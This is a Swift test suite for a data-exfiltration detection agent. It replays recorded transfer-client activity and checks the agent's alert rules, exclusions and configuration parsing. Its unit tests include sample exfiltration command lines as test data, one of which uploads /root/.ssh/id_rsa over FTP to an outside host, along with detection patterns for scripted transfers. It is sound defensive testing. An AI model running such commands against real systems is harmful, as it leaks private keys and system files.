import Foundation
import KernelAudit
import Patterns
import Runtime
import TestSupport
import Testing

@testable import AgentConfig
@testable import AuditIngest
@testable import Detection
@testable import Flows
@testable import HostState

/// Every rule on a log the kernel recorded while real clients ran against the transfer lab
/// (Tests/Fixtures/detection/commands.sh, run by a script: no terminal). Each rule has a case
/// that must fire and a close case that must not; manifest.txt names each client's pid.
/// Replay has no bytes, so the size rules are proven end to end (DetectionEndToEnd).
@Suite struct DetectionReplayTests {
    struct Run {
        let alerts: [Alert]
        let pids: [String: Int32]
        let detector: Detector

        func pid(_ name: String) throws -> Int32 { try #require(pids[name], "\(name) is not in the manifest") }

        /// Alerts of a rule whose process is the client or its child (scp's and python's).
        func alerts(_ rule: RuleID, of name: String) throws -> [Alert] {
            let pid = try pid(name)
            return alerts.filter { $0.rule == rule && ($0.process?.pid == pid || $0.process?.ppid == pid) }
        }
    }

    static let learnNothing = "[detection]\nfirst_seen_learning_minutes = 0\n"

    static func replay(_ config: String = learnNothing) throws -> Run {
        let replayed = try replayFixture("detection/detection.log", configuration: try AgentConfiguration.parse(config))
        return Run(alerts: replayed.alerts, pids: try manifest("detection/manifest.txt"), detector: replayed.graph.detector)
    }

    @Test func commandLineOfARecursiveCopyOfVarLog() throws {
        let run = try Self.replay()
        let alert = try #require(try run.alerts(.commandLine, of: "scp-var-log").first)
        #expect(alert.process?.executable == "/usr/bin/scp")
        #expect(alert.process?.arguments.contains("/var/log/apt") == true)
        #expect(alert.reasons.first?.hasPrefix("command line matches") == true)
        #expect(alert.flow == nil, "an execve alert")
        #expect(try run.alerts(.commandLine, of: "scp-project").isEmpty, "a project directory is not a system directory")
        #expect(run.alerts.filter { $0.rule == .commandLine }.count == 1)
    }

    @Test func scriptedFtpInItsLinuxForms() throws {
        let run = try Self.replay()
        #expect(try run.alerts(.scriptedFTP, of: "lftp-script").first?.reasons == ["lftp -f runs commands without a terminal"])
        #expect(try run.alerts(.scriptedFTP, of: "busybox-ftpput").first?.reasons == ["ftpput transfers without a session (busybox applet)"])
        #expect(try run.alerts(.scriptedFTP, of: "sftp-batch").first?.reasons == ["sftp -b runs a batch file"])
        #expect(try run.alerts(.scriptedFTP, of: "lftp-443").first?.reasons == ["lftp -e runs commands without a terminal"])
        #expect(try run.alerts(.scriptedFTP, of: "curl-put").isEmpty)
        // tnftp's stdin is a file here, but replay cannot know (no /proc; end to end proves it):
        // with no terminal either, no person typed its commands.
        #expect(
            try run.alerts(.scriptedFTP, of: "ftp-internet").first?.reasons == ["ftp ran without a terminal, its stdin unread: its commands came from a script"]
        )
    }

    @Test func livingOffTheLandBinariesAndTheirFiles() throws {
        let run = try Self.replay()
        let python = try run.pid("python-curl-zip")
        let lolbin = try #require(try run.alerts(.lolbinTransfer, of: "python-curl-zip").first)
        #expect(lolbin.process?.executable == "/usr/bin/curl" && lolbin.process?.ppid == python)
        #expect(lolbin.process?.parent?.executable == "/usr/bin/python3.11")
        #expect(lolbin.reasons.count == 2)
        #expect(lolbin.reasons[0].hasPrefix("process curl (pid"))
        #expect(lolbin.reasons[1].hasPrefix("parent python3 (pid \(python)) matches ^\\S*/python"))
        #expect(try run.alerts(.suspiciousFilename, of: "python-curl-zip").first?.reasons == ["command line names report.zip"])

        let busybox = try #require(try run.alerts(.lolbinTransfer, of: "busybox-tftp-hash").first)
        #expect(busybox.reasons.first?.hasPrefix("process busybox tftp") == true)
        #expect(busybox.flow?.networkProtocol == .tftp && busybox.flow?.transferDirection == .upload)
        #expect(
            try run.alerts(.suspiciousFilename, of: "busybox-tftp-hash").first?.reasons
                == ["command line names 0123456789abcdef0123456789abcdef01234567"])

        // tftp-hpa with a plain file name: neither.
        #expect(try run.alerts(.lolbinTransfer, of: "tftp-plain").isEmpty)
        #expect(try run.alerts(.suspiciousFilename, of: "tftp-plain").isEmpty)
        #expect(try run.alerts(.lolbinTransfer, of: "lftp-21").isEmpty)
    }

    @Test func transferToolsOnNonStandardPorts() throws {
        let run = try Self.replay()
        let ftp = try #require(try run.alerts(.nonstandardPort, of: "lftp-443").first)
        #expect(ftp.flow?.remotePort == 443 && ftp.flow?.networkProtocol == .ftp)
        #expect(ftp.reasons == ["lftp connected to port 443 (usual for ftp: 21, 990)"])
        let scp = try #require(try run.alerts(.nonstandardPort, of: "scp-2222").first)
        let scpPid = try run.pid("scp-2222")
        #expect(scp.process?.executable == "/usr/bin/ssh" && scp.flow?.transferProcess?.pid == scpPid)
        #expect(scp.reasons == ["scp connected to port 2222 (usual for scp: 22)"])
        #expect(try run.alerts(.nonstandardPort, of: "lftp-21").isEmpty)
        #expect(try run.alerts(.nonstandardPort, of: "scp-project").isEmpty)
        // FTP data connections (ports 40000-40300) are never this.
        #expect(run.alerts.filter { $0.rule == .nonstandardPort }.count == 2)
    }

    @Test func ftpToTheInternetAndNotToAPrivateServer() throws {
        let run = try Self.replay()
        let internet = try #require(try run.alerts(.ftpToInternet, of: "ftp-internet").first)
        #expect(internet.reasons == ["source address not recorded", "destination 203.0.113.10:21 is on the Internet"])
        #expect(internet.rule.info.severity == 21)
        #expect(try run.alerts(.ftpToInternet, of: "lftp-443").isEmpty, "Elastic's rule is about ports 20 and 21")
        let privatePid = try run.pid("ftp-private")
        // Scripted it is, wherever it goes; nothing else is raised for a trusted private server.
        let privateRules = Set(run.alerts.filter { $0.process?.pid == privatePid }.map(\.rule))
        #expect(privateRules == [.scriptedFTP], "a private server is trusted and not the Internet")
    }

    @Test func nonInteractiveTransfersSayWhy() throws {
        let run = try Self.replay()
        let alert = try #require(try run.alerts(.noninteractiveTransfer, of: "ftp-internet").first)
        #expect(alert.reasons == ["no tty", "login uid unset", "shell running a script file", "destination 203.0.113.10 is untrusted"])
        #expect(alert.interactivity?.isInteractive == false)
        // Every transfer to the lab's Internet server came from the script; SMB is not AN1170's.
        #expect(run.alerts.filter { $0.rule == .noninteractiveTransfer }.count == 13)
    }

    @Test func firstSeenOncePerExecutableAndNotWhileLearning() throws {
        let run = try Self.replay()
        let firstSeen = run.alerts.filter { $0.rule == .firstSeenProcess }
        let executables = firstSeen.compactMap { $0.process?.executable }
        #expect(Set(executables).count == executables.count, "once per executable")
        #expect(Set(executables) == ["/usr/bin/ssh", "/usr/bin/lftp", "/usr/bin/busybox", "/usr/bin/curl", "/usr/bin/tftp", "/usr/bin/tnftp"])
        let curlPid = try run.pid("curl-put")
        #expect(firstSeen.first { $0.process?.executable == "/usr/bin/curl" }?.process?.pid == curlPid)
        let learning = try Self.replay("[detection]\nfirst_seen_learning_minutes = 60\n")
        #expect(learning.alerts.allSatisfy { $0.rule != .firstSeenProcess })
    }

    @Test func disabledRulesStaySilent() throws {
        let run = try Self.replay(Self.learnNothing + "disabled_rules = [\"ftp.internet\", \"an1170.noninteractive_transfer\"]\n")
        #expect(run.alerts.allSatisfy { $0.rule != .ftpToInternet && $0.rule != .noninteractiveTransfer })
        #expect(run.alerts.contains { $0.rule == .lolbinTransfer })
    }

    @Test func exclusionsSilenceAndCount() throws {
        let run = try Self.replay(
            Self.learnNothing + """
                [[exclusions]]
                name = "lftp backups"
                process_name = "lftp"
                destination_networks = ["203.0.113.0/24"]

                [[exclusions]]
                name = "ci pushes"
                rules = ["an1170.noninteractive_transfer"]
                parent_executable = "/usr/bin/python3.11"

                [[exclusions]]
                name = "scp to the backup port"
                ancestor_executable = "/usr/bin/scp"
                destination_ports = [2222]

                [[exclusions]]
                name = "cron ftpput"
                user = "root"
                command_line_pattern = '^busybox ftpput '

                [[exclusions]]
                name = "tftp-hpa"
                process_executable = "/usr/bin/tftp"
                """)
        for name in ["busybox-ftpput", "tftp-plain"] {
            let pid = try run.pid(name)
            #expect(run.alerts.allSatisfy { $0.process?.pid != pid }, "\(name) is excluded")
        }
        // An execve alert waits for its process's connection: its destination is then known and
        // the exclusion that names one silences the whole job, scripted ftp included.
        for name in ["lftp-script", "lftp-443", "lftp-21"] {
            let pid = try run.pid(name)
            #expect(run.alerts.allSatisfy { $0.process?.pid != pid }, "\(name) is excluded")
        }
        #expect(try run.alerts(.noninteractiveTransfer, of: "python-curl-zip").isEmpty)
        #expect(try !run.alerts(.lolbinTransfer, of: "python-curl-zip").isEmpty, "ci pushes excludes one rule only")
        #expect(try run.alerts(.nonstandardPort, of: "scp-2222").isEmpty)
        #expect(try !run.alerts(.noninteractiveTransfer, of: "scp-var-log").isEmpty, "port 22 is not the backup port")
        let silenced = run.detector.silenced
        #expect(silenced["lftp backups"] == 11, "8 flow alerts (FTP on 443 to the Internet among them) and 3 held execve alerts")
        #expect(silenced["ci pushes"] == 1)
        #expect(silenced["scp to the backup port"] == 2)
        #expect(silenced["cron ftpput"] == 5)
        #expect(silenced["tftp-hpa"] == 2)
    }
}

/// The rules' building blocks on their own.
@Suite struct DetectionUnitTests {
    @Test func splunksScriptedFtpRegexVerbatim() throws {
        let splunk = try Pattern(AgentConfiguration.Detection().scriptedFTPPatterns[0])
        #expect(splunk.source == #"(?i)ftp\s+(.{1,})?\-s\:.{1,}\.\w{2,5}"#)
        #expect(splunk.isJIT)
        #expect(splunk.matches("ftp -s:commands.txt"))
        #expect(splunk.matches("FTP -i -s:C:\\Users\\x\\upload.scr 203.0.113.10"))
        #expect(splunk.matches("wine C:\\Windows\\System32\\ftp -v -s:script.dat host"))
        #expect(!splunk.matches("ftp.exe -s:script.dat"), "verbatim: the rule wants whitespace after ftp")
        #expect(!splunk.matches("ftp -n 203.0.113.10"))
        #expect(!splunk.matches("ftp -s:noextension"))
    }

    @Test func defaultPatternsOnRealCommandLines() throws {
        let defaults = AgentConfiguration.Detection()
        let commandLine = try defaults.commandLinePatterns.map { try Pattern($0) }
        func bulk(_ line: String) -> Bool { commandLine.contains { $0.matches(line) } }
        #expect(bulk("scp -r /var/log/syslog /var/log/auth.log backup@203.0.113.10:/srv"))
        #expect(bulk("/usr/bin/rsync -avz /etc/ 203.0.113.10:etc/"))
        #expect(bulk("lftp -e mirror -R /home/alice /upload; quit 203.0.113.10"))
        #expect(bulk("curl -T /root/.ssh/id_rsa ftp://203.0.113.10/"))
        #expect(!bulk("scp /var/log/syslog host:"), "not recursive")
        #expect(!bulk("scp -r ./build host:/var/log/"), "into /var/log, not out of it")
        #expect(!bulk("rsync -a /srv/www/ host:www/"))

        let images = try defaults.processImageFilter.map { try Pattern($0) }
        func lolbin(_ subject: String) -> Bool { images.contains { $0.matches(subject) } }
        #expect(lolbin("/usr/bin/python3.11 -c import os"))
        #expect(lolbin("/usr/bin/perl -MIO -e print"))
        #expect(lolbin("/usr/bin/busybox tftp -p"))
        #expect(lolbin("/usr/bin/wine C:\\windows\\system32\\cmd.exe /c ftp -s:x.txt"))
        #expect(lolbin("/usr/bin/wine64 powershell.exe -enc AAAA"))
        #expect(!lolbin("/usr/bin/python3.11 backup.py -c config.ini"), "-c after a script belongs to the script")
        #expect(!lolbin("/usr/bin/lftp -f job"))
        #expect(!lolbin("/usr/bin/scp a b:"))
    }

    @Test func trustedNetworksAndMappedAddresses() throws {
        let trusted = AgentConfiguration.Network().trustedNetworks
        func isTrusted(_ text: String) -> Bool { trusted.contains(address: literalIPAddress(text)!) }
        #expect(isTrusted("10.203.0.10") && isTrusted("192.168.1.1") && isTrusted("172.31.255.255") && isTrusted("::1"))
        #expect(isTrusted("::ffff:10.1.2.3"), "IPv4-mapped addresses match their IPv4 block")
        #expect(isTrusted("fe80::1") && isTrusted("fd00::2") && isTrusted("239.1.1.1"))
        #expect(!isTrusted("203.0.113.10") && !isTrusted("172.32.0.1") && !isTrusted("2001:db8::1") && !isTrusted("::ffff:203.0.113.10"))
        #expect(IPNetwork("10.1.2.3/8")?.description == "10.0.0.0/8")
        #expect(IPNetwork("10.0.0.0/33") == nil && IPNetwork("example.com") == nil)
    }

    @Test func configurationErrorsNameTheKey() throws {
        let text = """
            [detection]
            disabled_rules = ["an1170.nope"]
            data_flow_direction_threshold = 1.5
            command_line_patterns = ["(unclosed"]
            [network]
            trusted_networks = ["10.0.0.0/40"]
            [output.file]
            path = "relative.jsonl"
            [[exclusions]]
            name = "everything"
            [[exclusions]]
            name = "ports"
            destination_ports = [70000]
            colour = "red"
            """
        #expect(throws: ConfigError.self) { try AgentConfiguration.parse(text) }
        do {
            _ = try AgentConfiguration.parse(text)
        } catch {
            let keys = error.problems.map(\.keyPath)
            #expect(keys.contains("detection.disabled_rules"))
            #expect(keys.contains("detection.data_flow_direction_threshold"))
            #expect(keys.contains("detection.command_line_patterns"))
            #expect(keys.contains("network.trusted_networks"))
            #expect(keys.contains("output.file.path"))
            #expect(keys.contains("exclusions[0]"), "an exclusion with only a name would silence everything")
            #expect(keys.contains("exclusions[1].destination_ports"))
            #expect(keys.contains("exclusions[1].colour"))
            #expect(error.problems.first { $0.keyPath == "detection.command_line_patterns" }?.reason.contains("missing closing parenthesis") == true)
        }
    }

    @Test func firstSeenStatePersists() throws {
        let directory = NSTemporaryDirectory() + "xferwatch-state-\(UUID().uuidString)/nested"
        defer { try? FileManager.default.removeItem(atPath: (directory as NSString).deletingLastPathComponent) }
        let store = try FirstSeenStore(directory: directory, learningMinutes: 1, now: 1_000_000)
        #expect(store.observe("/usr/bin/curl", now: 1_030_000) == .learned)
        #expect(store.observe("/usr/bin/curl", now: 1_090_000) == .known)
        #expect(store.observe("/usr/bin/lftp", now: 1_070_000) == .new)
        let reloaded = try FirstSeenStore(directory: directory, learningMinutes: 1, now: 9_000_000)
        #expect(reloaded.learningStarted == 1_000_000, "the learning period does not restart")
        #expect(reloaded.observe("/usr/bin/lftp", now: 9_000_000) == .known)
        #expect(reloaded.observe("/usr/bin/wget", now: 9_000_000) == .new)
        #expect(throws: StateError.self) { try FirstSeenStore(directory: "/proc/xferwatch", learningMinutes: 1, now: 0) }
    }
}
